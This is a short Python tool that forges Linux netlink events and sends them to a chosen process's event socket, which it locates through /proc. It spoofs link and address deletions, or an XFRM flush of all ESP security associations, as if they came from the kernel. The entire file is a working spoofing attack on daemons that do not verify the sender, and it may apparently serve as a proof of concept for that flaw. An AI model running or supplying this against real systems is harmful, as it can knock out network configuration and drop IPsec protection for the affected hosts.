#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Forged netlink events from a process, to a daemon's event sockets.

    nl_forge.py PID IFNAME ADDR COUNT
    nl_forge.py --xfrm PID COUNT

Run in the daemon's network namespace. Finds PID's NETLINK_ROUTE socket
that listens to groups (its event socket: /proc/net/netlink by the
inodes of /proc/PID/fd) and sends it COUNT pairs of RTM_DELLINK of
IFNAME and RTM_DELADDR of ADDR (IPv4) on it, from a socket of our own
(nl_pid not 0), as the kernel would word them. With --xfrm, its
NETLINK_XFRM event socket (the XFRM SA source's) COUNT XFRM_MSG_FLUSHSA
of ESP (what would drop every SA). Prints the port sent to.
"""
import os
import socket
import struct
import sys

RTM_DELLINK, RTM_DELADDR = 17, 21
NETLINK_XFRM, XFRM_MSG_FLUSHSA = 6, 28
IFLA_IFNAME, IFA_ADDRESS, IFA_LOCAL = 3, 1, 2


def event_port(pid, proto=0):
    inodes = set()
    for fd in os.listdir("/proc/%d/fd" % pid):
        try:
            link = os.readlink("/proc/%d/fd/%s" % (pid, fd))
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(int(link[8:-1]))
    with open("/proc/net/netlink") as f:
        next(f)
        for line in f:
            w = line.split()
            # sk Eth Pid Groups Rmem Wmem Dump Locks Drops Inode
            if (int(w[1]) == proto and int(w[3], 16) and
                    int(w[9]) in inodes):
                return int(w[2])
    sys.exit("no netlink (protocol %d) event socket of pid %d" % (proto, pid))


def attr(kind, data):
    n = 4 + len(data)
    return struct.pack("=HH", n, kind) + data + b"\0" * (-n % 4)


def msg(kind, body, seq):
    return struct.pack("=IHHII", 16 + len(body), kind, 0, seq, 0) + body


def xfrm(pid, count):
    port = event_port(pid, NETLINK_XFRM)
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_XFRM)
    s.bind((0, 0))
    for i in range(count):
        # struct xfrm_usersa_flush: the protocol, padded to 4
        s.sendto(msg(XFRM_MSG_FLUSHSA, struct.pack("=B3x", 50), i + 1),
                 (port, 0))
    print(port)


def main():
    if sys.argv[1] == "--xfrm":
        xfrm(int(sys.argv[2]), int(sys.argv[3]))
        return
    pid, ifname, addr, count = (int(sys.argv[1]), sys.argv[2], sys.argv[3],
                                int(sys.argv[4]))
    ifindex = socket.if_nametoindex(ifname)
    port = event_port(pid)
    link = struct.pack("=BxHiII", socket.AF_UNSPEC, 1, ifindex, 0, 0)
    link += attr(IFLA_IFNAME, ifname.encode() + b"\0")
    a = socket.inet_aton(addr)
    address = struct.pack("=BBBBI", socket.AF_INET, 24, 0, 0, ifindex)
    address += attr(IFA_LOCAL, a) + attr(IFA_ADDRESS, a)
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW,
                      socket.NETLINK_ROUTE)
    s.bind((0, 0))
    for i in range(count):
        s.sendto(msg(RTM_DELLINK, link, 2 * i + 1), (port, 0))
        s.sendto(msg(RTM_DELADDR, address, 2 * i + 2), (port, 0))
    print(port)


main()
